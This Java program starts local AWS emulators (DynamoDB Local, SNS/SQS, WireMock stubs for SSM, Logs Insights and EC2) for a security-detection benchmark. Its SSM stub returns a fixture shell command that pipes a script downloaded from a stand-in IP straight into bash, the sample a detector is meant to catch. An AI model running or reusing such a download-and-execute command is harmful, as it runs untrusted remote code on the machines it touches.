package io.runwatch.aws.bench;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.containing;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;

import com.amazonaws.services.dynamodbv2.local.main.ServerRunner;
import com.amazonaws.services.dynamodbv2.local.server.DynamoDBProxyServer;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.client.MappingBuilder;
import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import io.runwatch.aws.AwsConfig;
import io.runwatch.aws.dynamo.DynamoTables;
import io.runwatch.aws.dynamo.TestTables;
import io.runwatch.aws.testing.Fauxqs;
import java.io.IOException;
import java.net.ServerSocket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.awscore.client.builder.AwsClientBuilder;
import software.amazon.awssdk.awscore.client.builder.AwsSyncClientBuilder;
import software.amazon.awssdk.http.urlconnection.UrlConnectionHttpClient;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import software.amazon.awssdk.services.sns.SnsClient;
import software.amazon.awssdk.services.sqs.SqsClient;
import software.amazon.awssdk.services.sqs.model.QueueAttributeName;

/**
 * The local AWS the cold-start benchmark ({@code aws-function/bench/coldstart.sh}) runs the real
 * {@code DetectHandler} against; not a test, a program: {@code Emulators <env-file>}.
 *
 * <ul>
 *   <li>DynamoDB Local as an HTTP server (in memory, a free port) with the five tables;
 *   <li>fauxqs (SNS and SQS) with the findings topic and a subscribed queue, so a publish is a
 *       delivery that can be counted;
 *   <li>a WireMock server for the JSON and query APIs: SSM {@code ListCommands} (an
 *       AWS-RunShellScript command, echoing the asked command id), Logs Insights {@code
 *       StartQuery}/{@code GetQueryResults} (complete, no rows) and EC2 {@code DescribeInstances}
 *       (each target's private DNS name).
 * </ul>
 *
 * <p>Writes {@code KEY=VALUE} lines to the env file once everything listens: the {@code RUNWATCH_*}
 * variables, region and credentials ({@code local}/{@code local}: DynamoDB Local keeps tables per
 * access key, and the stubs do not look at credentials), and the SDK's standard {@code
 * AWS_ENDPOINT_URL_<SERVICE>} variables, so the production wiring ({@code ClientSetup.LAMBDA}, no
 * endpoint override) reaches the emulators unchanged. Then waits until stdin closes (or it is
 * killed), prints what the emulators saw, and stops them.
 */
public final class Emulators {
  /** The three targets of the fixture's SendCommand. */
  static final List<String> INSTANCES =
      List.of("i-006e4c07b5fba8ad2", "i-01bf673280e708b0d", "i-020001cca1a2f2628");

  private Emulators() {}

  public static void main(String[] args) throws Exception {
    if (args.length != 1) {
      System.err.println("usage: Emulators <env-file>");
      System.exit(2);
    }
    Path envFile = Path.of(args[0]);
    Files.deleteIfExists(envFile);

    int dynamoPort = freePort();
    DynamoDBProxyServer dynamo =
        ServerRunner.createServerFromCommandLineArgs(
            new String[] {"-inMemory", "-disableTelemetry", "-port", Integer.toString(dynamoPort)});
    dynamo.start();
    URI dynamoUri = URI.create("http://127.0.0.1:" + dynamoPort);
    Fauxqs fauxqs = Fauxqs.start();
    WireMockServer aws = new WireMockServer(options().dynamicPort());
    aws.start();
    stub(aws);

    DynamoTables tables = TestTables.unique();
    SnsClient sns = local(SnsClient.builder(), fauxqs.endpoint()).build();
    SqsClient sqs = local(SqsClient.builder(), fauxqs.endpoint()).build();
    try (DynamoDbClient db = local(DynamoDbClient.builder(), dynamoUri).build()) {
      TestTables.create(db, tables);
      String topic = sns.createTopic(r -> r.name("runwatch-findings")).topicArn();
      String queueUrl = sqs.createQueue(r -> r.queueName("soc")).queueUrl();
      String queueArn =
          sqs.getQueueAttributes(r -> r.queueUrl(queueUrl).attributeNames(QueueAttributeName.ALL))
              .attributesAsStrings()
              .get("QueueArn");
      sns.subscribe(r -> r.topicArn(topic).protocol("sqs").endpoint(queueArn));

      Map<String, String> env = new LinkedHashMap<>();
      env.put(AwsConfig.BASELINES, tables.baselines());
      env.put(AwsConfig.FINDINGS, tables.findings());
      env.put(AwsConfig.PENDING, tables.pending());
      env.put(AwsConfig.JOURNAL, tables.journal());
      env.put(AwsConfig.TOPIC, topic);
      env.put(AwsConfig.LOG_GROUPS, "/runwatch/sysmon");
      env.put(AwsConfig.CONTAIN_FUNCTION, "runwatch-contain");
      env.put("AWS_REGION", "us-east-1");
      env.put("AWS_ACCESS_KEY_ID", "local");
      env.put("AWS_SECRET_ACCESS_KEY", "local");
      // Names read by SDK 2.40.2's generated Default<Service>BaseClientBuilder classes.
      env.put("AWS_ENDPOINT_URL_DYNAMODB", dynamoUri.toString());
      env.put("AWS_ENDPOINT_URL_SNS", fauxqs.endpoint().toString());
      String apis = "http://127.0.0.1:" + aws.port();
      env.put("AWS_ENDPOINT_URL_SSM", apis);
      env.put("AWS_ENDPOINT_URL_CLOUDWATCH_LOGS", apis);
      env.put("AWS_ENDPOINT_URL_EC2", apis);
      // Not an SDK variable: where the benchmark script asks WireMock what it was asked.
      env.put("BENCH_WIREMOCK_URL", apis);
      StringBuilder text = new StringBuilder();
      env.forEach((k, v) -> text.append(k).append('=').append(v).append('\n'));
      Path tmp = envFile.resolveSibling(envFile.getFileName() + ".tmp");
      Files.writeString(tmp, text, StandardCharsets.UTF_8);
      Files.move(tmp, envFile, StandardCopyOption.ATOMIC_MOVE); // appears whole, or not at all
      System.out.println("emulators ready: " + envFile);
      System.out.flush();

      while (System.in.read() >= 0) {
        // until stdin closes
      }

      int delivered =
          Integer.parseInt(
              sqs.getQueueAttributes(
                      r ->
                          r.queueUrl(queueUrl)
                              .attributeNames(QueueAttributeName.APPROXIMATE_NUMBER_OF_MESSAGES))
                  .attributesAsStrings()
                  .get("ApproximateNumberOfMessages"));
      System.out.printf(
          "emulators saw: findings stored=%d, journal entries=%d, pending=%d,"
              + " SNS deliveries to the SOC queue=%d, WireMock requests=%d%n",
          db.scan(r -> r.tableName(tables.findings())).count(),
          db.scan(r -> r.tableName(tables.journal())).count(),
          db.scan(r -> r.tableName(tables.pending())).count(),
          delivered,
          aws.getAllServeEvents().size());
    } finally {
      sns.close();
      sqs.close();
      aws.stop();
      fauxqs.close();
      dynamo.stop();
    }
  }

  private static void stub(WireMockServer aws) {
    // The asked command id comes back (response templating), so every run may use a fresh one.
    aws.stubFor(
        target(
            "AmazonSSM.ListCommands",
            """
            {"Commands":[{"CommandId":"{{jsonPath request.body '$.CommandId'}}",
              "DocumentName":"AWS-RunShellScript","DocumentVersion":"$DEFAULT","Comment":"",
              "ExpiresAfter":{{now offset='2 hours' format='unix'}},
              "Parameters":{"commands":["#!/bin/bash","curl -s http://203.0.113.7/x.sh | bash"],
                "workingDirectory":[""],"executionTimeout":["3600"]},
              "InstanceIds":["%s","%s","%s"],"Targets":[],
              "RequestedDateTime":{{now format='unix'}},"Status":"InProgress",
              "StatusDetails":"InProgress","OutputS3Region":"us-west-2",
              "OutputS3BucketName":"","OutputS3KeyPrefix":"","MaxConcurrency":"50",
              "MaxErrors":"0","TargetCount":3,"CompletedCount":0,"ErrorCount":0,
              "DeliveryTimedOutCount":0,"ServiceRole":"",
              "NotificationConfig":{"NotificationArn":"","NotificationEvents":[],
                "NotificationType":""},
              "CloudWatchOutputConfig":{"CloudWatchLogGroupName":"",
                "CloudWatchOutputEnabled":false},
              "TimeoutSeconds":3600,"TriggeredAlarms":[]}]}
            """
                .formatted(INSTANCES.toArray()),
            true));
    aws.stubFor(
        target("Logs_20140328.StartQuery", "{\"queryId\":\"{{randomValue type='UUID'}}\"}", true));
    aws.stubFor(
        target(
            "Logs_20140328.GetQueryResults",
            "{\"results\":[],\"statistics\":{\"recordsMatched\":0.0,\"recordsScanned\":0.0,"
                + "\"bytesScanned\":0.0},\"status\":\"Complete\"}",
            false));
    int n = 1;
    for (String id : INSTANCES) {
      aws.stubFor(
          post(urlEqualTo("/"))
              .withRequestBody(containing("Action=DescribeInstances"))
              .withRequestBody(containing(id))
              .willReturn(
                  aResponse()
                      .withStatus(200)
                      .withHeader("Content-Type", "text/xml;charset=UTF-8")
                      .withBody(describeInstances(id, n))));
      n++;
    }
  }

  /** A JSON-protocol call, matched on its operation only (never on credentials). */
  private static MappingBuilder target(String target, String body, boolean templated) {
    ResponseDefinitionBuilder r =
        aResponse()
            .withStatus(200)
            .withHeader("Content-Type", "application/x-amz-json-1.1")
            .withBody(body);
    return post(urlEqualTo("/"))
        .withHeader("X-Amz-Target", equalTo(target))
        .willReturn(templated ? r.withTransformers("response-template") : r);
  }

  /** One running instance in us-west-2, as EC2's query protocol answers. */
  private static String describeInstances(String id, int n) {
    return """
        <?xml version="1.0" encoding="UTF-8"?>
        <DescribeInstancesResponse xmlns="http://ec2.amazonaws.com/doc/2016-11-15/">
          <requestId>8f7e3c1a-0000-4000-8000-00000000000%d</requestId>
          <reservationSet>
            <item>
              <reservationId>r-0a1b2c3d4e5f6000%d</reservationId>
              <ownerId>111122223333</ownerId>
              <groupSet/>
              <instancesSet>
                <item>
                  <instanceId>%s</instanceId>
                  <imageId>ami-0abcdef1234567890</imageId>
                  <instanceState><code>16</code><name>running</name></instanceState>
                  <privateDnsName>ip-10-0-1-%d.us-west-2.compute.internal</privateDnsName>
                  <dnsName/>
                  <instanceType>t3.micro</instanceType>
                  <placement><availabilityZone>us-west-2a</availabilityZone></placement>
                  <privateIpAddress>10.0.1.%d</privateIpAddress>
                  <subnetId>subnet-0123456789abcdef0</subnetId>
                  <vpcId>vpc-0123456789abcdef0</vpcId>
                </item>
              </instancesSet>
            </item>
          </reservationSet>
        </DescribeInstancesResponse>
        """
        .formatted(n, n, id, 20 + n, 20 + n);
  }

  private static <B extends AwsClientBuilder<B, ?>> B local(B builder, URI endpoint) {
    builder
        .endpointOverride(endpoint)
        .region(Region.US_EAST_1)
        .credentialsProvider(
            StaticCredentialsProvider.create(AwsBasicCredentials.create("local", "local")));
    if (builder instanceof AwsSyncClientBuilder<?, ?> s) {
      s.httpClientBuilder(UrlConnectionHttpClient.builder());
    }
    return builder;
  }

  private static int freePort() throws IOException {
    try (ServerSocket s = new ServerSocket(0)) {
      return s.getLocalPort();
    }
  }
}
